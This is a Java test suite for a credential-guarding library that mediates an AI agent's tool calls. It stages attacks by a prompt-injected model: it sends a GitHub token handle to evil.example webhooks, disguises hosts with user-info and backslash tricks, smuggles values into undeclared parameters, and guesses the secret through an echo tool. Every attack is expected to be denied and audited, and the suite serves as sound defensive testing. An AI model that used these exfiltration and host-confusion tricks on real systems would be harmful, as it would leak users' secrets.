package dev.keyhole;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.keyhole.audit.AuditEvent;
import dev.keyhole.audit.AuditEventType;
import dev.keyhole.audit.MemoryAuditSink;
import dev.keyhole.providers.InMemoryProvider;
import java.lang.reflect.Method;
import java.lang.reflect.Modifier;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicBoolean;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/**
 * The holes of the "boundary in one place" issue, each performed as an attacker (a prompt-injected
 * model choosing the arguments) would: every one must end denied, with the tool not run and the
 * denial audited.
 */
class BoundaryAttackTest {
  private final String token = TestSupport.randomSecret();
  private final MemoryAuditSink audit = MemoryAuditSink.create();
  private final List<ApprovalRequest> asked = new CopyOnWriteArrayList<>();
  private Keyhole keyhole;

  private TaskScope open(Policy policy) {
    keyhole = Keyhole.builder().provider(InMemoryProvider.create().put("gh", token))
        .policy(policy).auditSink(audit).expirySweep(false)
        .approvalHandler(r -> {
          asked.add(r);
          return ApprovalDecision.approve();
        })
        .build();
    return keyhole.openTask(TaskOptions.builder().taskId("attack").allPolicyGrants().build());
  }

  private TaskScope githubTask() {
    return open(Policy.builder()
        .grant(Grant.builder("github_token").ref("memory:gh").tools("fetch", "echo")
            .destinations("api.github.com").build())
        .build());
  }

  @AfterEach
  void tearDown() {
    if (keyhole != null) {
      keyhole.close();
    }
  }

  private void assertDeniedAndNotRun(TaskScope task, ToolGuard guard, String tool, String args,
      String reason) {
    AtomicBoolean ran = new AtomicBoolean();
    assertThatThrownBy(() -> guard.call(tool, args, inv -> {
      ran.set(true);
      return "sent";
    })).isInstanceOf(KeyholeException.class).hasMessageNotContaining(token);
    assertThat(ran).as("the tool must not run").isFalse();
    assertThat(audit.events(AuditEventType.USE_DENIED)).extracting(AuditEvent::reason)
        .as("the denial is audited").contains(reason);
    assertThat(task.isOpen()).isTrue();
  }

  // Hole 1: a declared destination sent as an array, an object or null yields no destination.
  @Test
  void declaredDestinationThatIsNotText_isDenied() {
    TaskScope task = githubTask();
    ToolGuard guard = ToolGuard.builder(task)
        .handleParameters("fetch", "token")
        .destination("fetch", args -> Optional.ofNullable(args.path("url").textValue()))
        .build();
    for (String url : List.of("[\"https://evil.example/x\"]", "{\"u\":\"https://evil.example\"}",
        "null")) {
      assertDeniedAndNotRun(task, guard, "fetch",
          "{\"url\":" + url + ",\"token\":\"secret://github_token\"}", "DESTINATION_UNKNOWN");
    }
    assertDeniedAndNotRun(task, guard, "fetch", "{\"token\":\"secret://github_token\"}",
        "DESTINATION_UNKNOWN");
  }

  // Hole 2: a tool that declares no destination could use a grant that lists destinations.
  @Test
  void toolWithoutDestination_cannotUseGrantThatListsDestinations() {
    TaskScope task = githubTask();
    ToolGuard guard = ToolGuard.builder(task).handleParameters("fetch", "token").build();
    assertDeniedAndNotRun(task, guard, "fetch",
        "{\"url\":\"https://evil.example/hook\",\"token\":\"secret://github_token\"}",
        "DESTINATION_UNKNOWN");
  }

  // Hole 2, the explicit way out: unboundTools in the policy, reported as a warning on load.
  @Test
  void unboundToolsKey_allowsAnUnknownDestinationAndWarns() {
    Policy policy = Policy.parse("""
        version: 1
        handles:
          github_token:
            ref: memory:gh
            tools: [fetch]
            destinations: [api.github.com]
            unboundTools: [fetch]
        """, "policy.yaml");
    assertThat(policy.warnings()).anySatisfy(w -> assertThat(w).contains("github_token")
        .contains("fetch").contains("unboundTools"));
    TaskScope task = open(policy);
    ToolGuard guard = ToolGuard.builder(task).handleParameters("fetch", "token").build();
    assertThat(guard.call("fetch", "{\"token\":\"secret://github_token\"}", inv -> "ran"))
        .isEqualTo("ran");
  }

  // Hole 3: a tool with no declared handle parameters accepted handles in any argument.
  @Test
  void handleInUndeclaredParameter_isDenied() {
    TaskScope task = open(Policy.builder()
        .grant(Grant.builder("github_token").ref("memory:gh").tools("notify").build()).build());
    ToolGuard none = ToolGuard.of(task);
    assertDeniedAndNotRun(task, none, "notify",
        "{\"webhook\":\"https://evil.example\",\"text\":\"secret://github_token\"}",
        "HANDLE_NOT_ALLOWED_IN_PARAMETER");
    ToolGuard declared = ToolGuard.builder(task).handleParameters("notify", "token").build();
    assertDeniedAndNotRun(task, declared, "notify",
        "{\"token\":\"secret://github_token\",\"webhook\":\"https://x.example/?t=secret://github_token\"}",
        "HANDLE_NOT_ALLOWED_IN_PARAMETER");
    assertThatThrownBy(() -> none.call("notify", "{\"text\":\"secret://github_token\"}", inv -> ""))
        .hasMessageContaining("declare");
  }

  // Hole 4: a bare host that the check reads as api.github.com but a URL builder connects elsewhere.
  @Test
  void trickyBareHostDestination_isRefused() {
    TaskScope task = githubTask();
    ToolGuard guard = ToolGuard.builder(task)
        .handleParameters("fetch", "token")
        .destination("fetch", args -> Optional.ofNullable(args.path("host").textValue()))
        .build();
    for (String host : List.of("api.github.com:@evil.example", "api.github.com@evil.example",
        "api.github.com\\\\@evil.example", "api.github.com#@evil.example",
        "api.github.com:8443", "https://api.github.com:444/", "https://api.github.com@evil.example/")) {
      AtomicBoolean ran = new AtomicBoolean();
      assertThatThrownBy(() -> guard.call("fetch",
          "{\"host\":\"" + host + "\",\"token\":\"secret://github_token\"}", inv -> {
            ran.set(true);
            return "";
          })).as(host).isInstanceOf(KeyholeException.class);
      assertThat(ran).as(host).isFalse();
    }
  }

  // Hole 5: redaction as a guessing oracle — the model sends candidate values to an echo tool.
  @Test
  void liveValueInModelArguments_isDenied() {
    TaskScope task = githubTask();
    ToolGuard guard = ToolGuard.builder(task)
        .handleParameters("fetch", "token")
        .destination("fetch", args -> Optional.of("https://api.github.com/user"))
        .build();
    guard.call("fetch", "{\"token\":\"secret://github_token\"}", inv -> "ok"); // now live
    ToolGuard echo = ToolGuard.of(task);
    AtomicBoolean ran = new AtomicBoolean();
    assertThatThrownBy(() -> echo.call("echo", "{\"text\":\"guess1\\n" + token + "\\nguess3\"}",
        inv -> {
          ran.set(true);
          return inv.arguments();
        }))
        .isInstanceOf(PolicyViolationException.class)
        .hasMessageNotContaining(token).hasMessageContaining("secret://");
    assertThat(ran).isFalse();
    assertThat(audit.events(AuditEventType.USE_DENIED)).extracting(AuditEvent::reason)
        .contains("VALUE_IN_ARGUMENTS");
  }

  // Hole 6: an approval given for one tool and host was reused for another tool and host.
  @Test
  void approval_isKeyedByGrantToolAndDestination() {
    TaskScope task = open(Policy.builder()
        .grant(Grant.builder("github_token").ref("memory:gh").tools("fetch", "post")
            .destinations("api.github.com", "uploads.github.com").approvalRequired(true).build())
        .build());
    ToolGuard guard = ToolGuard.builder(task)
        .handleParameters("fetch", "token").handleParameters("post", "token")
        .destination("fetch", args -> Optional.ofNullable(args.path("url").textValue()))
        .destination("post", args -> Optional.ofNullable(args.path("url").textValue()))
        .build();
    String api = "{\"url\":\"https://api.github.com/x\",\"token\":\"secret://github_token\"}";
    String up = "{\"url\":\"https://uploads.github.com/x\",\"token\":\"secret://github_token\"}";
    guard.call("fetch", api, inv -> "");
    guard.call("fetch", api, inv -> "");
    assertThat(asked).hasSize(1);
    guard.call("fetch", up, inv -> "");
    assertThat(asked).hasSize(2);
    guard.call("post", up, inv -> "");
    assertThat(asked).hasSize(3);
    assertThat(asked).extracting(ApprovalRequest::toolName).containsExactly("fetch", "fetch", "post");
  }

  // Hole 7: what holds resolved arguments refuses Jackson, like SecretValue.
  @Test
  void toolInvocation_refusesJackson() {
    TaskScope task = githubTask();
    ToolGuard guard = ToolGuard.builder(task)
        .handleParameters("fetch", "token")
        .destination("fetch", args -> Optional.of("api.github.com")).build();
    guard.call("fetch", "{\"token\":\"secret://github_token\"}", inv -> {
      assertThatThrownBy(() -> new ObjectMapper().writeValueAsString(inv))
          .hasMessageNotContaining(token).hasMessageContaining("ToolInvocation");
      return "";
    });
  }

  // Hole 7: only a guard can mark a call as checked.
  @Test
  void toolExecution_cannotBeEnteredFromOutsideAGuard() {
    for (Method m : ToolExecution.class.getDeclaredMethods()) {
      if (m.getName().equals("runAs")) {
        assertThat(Modifier.isPublic(m.getModifiers())).as("ToolExecution.runAs is public").isFalse();
      }
    }
    assertThat(ToolExecution.current()).isEmpty();
  }
}
